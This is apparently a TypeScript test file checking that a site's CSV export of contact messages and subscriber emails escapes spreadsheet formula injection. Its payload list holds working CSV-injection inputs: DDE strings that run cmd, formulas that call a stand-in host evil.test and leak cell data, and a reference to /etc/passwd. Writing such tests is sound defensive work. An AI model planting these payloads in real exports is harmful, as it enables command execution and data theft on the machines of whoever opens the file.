import { apiPaths } from '../../data/site/api-paths.ts';
import { csvRow } from '../../server/features/inbox/lists/csv.ts';
import { apiSite, asConsumer } from '../support/api-app.ts';
import { aContactMessage } from '../support/builders.ts';
import { freshDatabase } from '../support/databases.ts';
import { parseCsv } from '../support/parse-csv.ts';
import { startedOnce } from '../support/started.ts';

const database = startedOnce(() => freshDatabase('sqlite'));

const payloads = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  "=cmd|'/c calc'!'A1'",
  '=HYPERLINK("https://evil.test?x="&A1,"open")',
  '=IMPORTXML("https://evil.test","//a")',
  '=IMAGE("https://evil.test/x.png")',
  '=WEBSERVICE("https://evil.test")',
  '=DDE("cmd";"/c calc";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  '+1+1',
  '+cmd|"/c calc"!A0',
  '-1+1',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '";=1+1;"',
  '",=1+1,"',
  'text;=1+1',
  'text; =1+1',
  'text;;=1+1',
  'text;"=1+1"',
  'text;" ""=1+1',
  '"" "=1+1',
  'text,=1+1',
  "';=1+1",
  'text\n=1+1',
  'text\r\n=1+1',
  'text\r=1+1',
  'text\t=1+1',
  'text\n\n  +1',
  'text;\n@SUM(1)',
  '=1+1;=2+2\n=3+3',
  "=1+1\n'=2",
  '=-+@1',
];

/** The cells that a reader gets which splits at this character and ignores quotes. */
function cellsOf(text: string, separator: string): string[] {
  return text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
}

const formulaStart = /^[\s"\ufeff]*[=+\-@＝＋－＠]/u;

test.each(payloads)(
  '%j is exported as text in every column and parses back without loss',
  async (payload) => {
    await database.db('contact_messages').del();
    const { request } = apiSite(database);
    const isName = !/[\r\n\t]/.test(payload);
    const sent = aContactMessage({
      message: payload.padEnd(20, '.'),
      ...(isName ? { firstName: payload, lastName: payload } : {}),
    });
    expect((await request.post(apiPaths.contact).send(sent)).status).toBe(201);
    const { text } = await request.get(`${apiPaths.messages}?format=csv`).set(asConsumer);
    const [header = [], row = []] = parseCsv(text.slice(1));
    expect(row).toHaveLength(header.length);
    for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
    for (const cell of row.slice(1)) {
      for (const part of cellsOf(cell, ';')) expect(part).not.toMatch(formulaStart);
    }
    expect(row[5]?.replaceAll("'", '')).toBe(sent.message.trim().replaceAll("'", ''));
  },
);

test('a reader that splits at semicolons finds no formula in the raw lines', () => {
  for (const payload of payloads) {
    const line = csvRow(['plain', payload]);
    for (const cell of cellsOf(line, ';'))
      expect([payload, formulaStart.test(cell)]).toEqual([payload, false]);
  }
});

test('in a file for German spreadsheets a reader that splits at either character finds no formula', () => {
  for (const payload of payloads) {
    const line = csvRow(['plain', payload, 'text'], 'semicolon');
    for (const separator of [';', ','])
      for (const cell of cellsOf(line, separator))
        expect([payload, formulaStart.test(cell)]).toEqual([payload, false]);
  }
});

test('email addresses that begin like a formula are exported as text', async () => {
  const { request } = apiSite(database);
  for (const email of ['+1@post.example', '-1@post.example'])
    expect((await request.post(apiPaths.subscribe).send({ email })).status).toBe(201);
  const { text } = await request.get(`${apiPaths.subscribers}?format=csv`).set(asConsumer);
  const emails = parseCsv(text.slice(1)).map(([, email]) => email);
  expect(emails).toEqual(['email', "'-1@post.example", "'+1@post.example"]);
});
